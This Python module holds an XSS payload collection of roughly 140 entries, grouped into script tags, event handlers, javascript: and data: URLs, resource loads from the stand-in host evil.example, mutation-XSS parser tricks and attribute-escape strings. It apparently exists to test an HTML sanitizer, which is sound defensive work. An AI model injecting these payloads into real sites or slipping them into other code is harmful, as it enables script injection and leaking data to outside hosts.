"""A hundred and forty ways to make a browser run or fetch something, by class. Each calls `alert` or asks `evil.example`.

Our own collection of the known classes: plain scripts, handlers, addresses with a scheme, what is fetched, raw text and foreign
content (mutation XSS), and what tries to leave an attribute or a script that it was put into.
"""

from __future__ import annotations

_EVIL = "https://evil.example/x"

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    f"<script src={_EVIL}></script>",
    f"<script type=module src={_EVIL}></script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    f"<svg><script href={_EVIL} /></svg>",
    "<math><script>alert(1)</script></math>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml ?><script>alert(1)</script>",
]
_HANDLERS = [
    f"<{tag}={how}>"
    for tag in (
        "img src=x onerror",
        "img/src=x/onerror",
        "IMG SRC=x ONERROR",
        "img src=x\nonerror",
        "img src=x \x0conerror",
        "image src=x onerror",
        "svg onload",
        "svg/onload",
        "body onload",
        "body onpageshow",
        "input autofocus onfocus",
        "select autofocus onfocus",
        "textarea autofocus onfocus",
        "a href=# autofocus tabindex=1 onfocus",
        "video src=x onerror",
        "audio src=x onerror",
        "iframe onload",
        "details open ontoggle",
        "marquee onstart",
        "p style=animation:a onanimationstart",
        "style onload",
        "link rel=stylesheet href=x onerror",
        "object data=x onerror",
        "script src=x onerror",
    )
    for how in ("alert(1)", "`${alert(1)}`")
][:40]
_ADDRESSES = [
    f'<a href="{address}">click</a>'
    for address in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript&#x09;:alert(1)",
        "java&#x0A;script:alert(1)",
        "java\tscript:alert(1)",
        "&#1;javascript:alert(1)",
        " javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript:/*--></title></style></script>*/alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    )
] + [
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=a>x</a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
]
_FETCHES = [
    f"<img src={_EVIL}>",
    "<img src=//evil.example/x>",
    f"<img srcset='{_EVIL} 2x'>",
    f"<picture><source srcset={_EVIL}><img></picture>",
    f"<input type=image src={_EVIL}>",
    f"<video poster={_EVIL}></video>",
    f"<audio src={_EVIL} autoplay></audio>",
    f"<track src={_EVIL} default>",
    f"<link rel=stylesheet href={_EVIL}>",
    f"<link rel=prefetch href={_EVIL}>",
    f"<link rel=icon href={_EVIL}>",
    f"<style>@import '{_EVIL}';</style>",
    f"<style>*{{background:url({_EVIL})}}</style>",
    f"<p style='background:url({_EVIL})'>x</p>",
    f"<p style='background:u\\72l({_EVIL})'>x</p>",
    f"<table background={_EVIL}><td background={_EVIL}>x</table>",
    f"<body background={_EVIL}>",
    f"<iframe src={_EVIL}></iframe>",
    f"<object data={_EVIL}></object>",
    f"<embed src={_EVIL}>",
    f"<svg><image href={_EVIL} /></svg>",
    f"<svg><use href={_EVIL}#a /></svg>",
    f"<svg><filter id=f><feImage href={_EVIL} /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<base href={_EVIL}><img src=a>",
]
_MUTATIONS = [
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<style><a title="</style><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<svg><style><a id="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mi></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<template><img src=x onerror=alert(1)></template><svg><p><style><g title="</style><img src onerror=alert(1)>">',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<p title="`<img src=x onerror=alert(1)>`">x</p>',
    "<img alt='`><img src=x onerror=alert(1)>'>",
    "<a name=body><a id=attributes><a name=cookie href=//evil.example>x</a>",
]
_ESCAPES = [
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "</textarea></title></style></script><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "';alert(1);//",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\u2028</script><img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cimg src=x onerror=alert(1)%3E",
    "\ufeff<img src=x onerror=alert(1)>",
    "jav\u200bascript:alert(1)",
]

PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_FETCHES, *_MUTATIONS, *_ESCAPES]
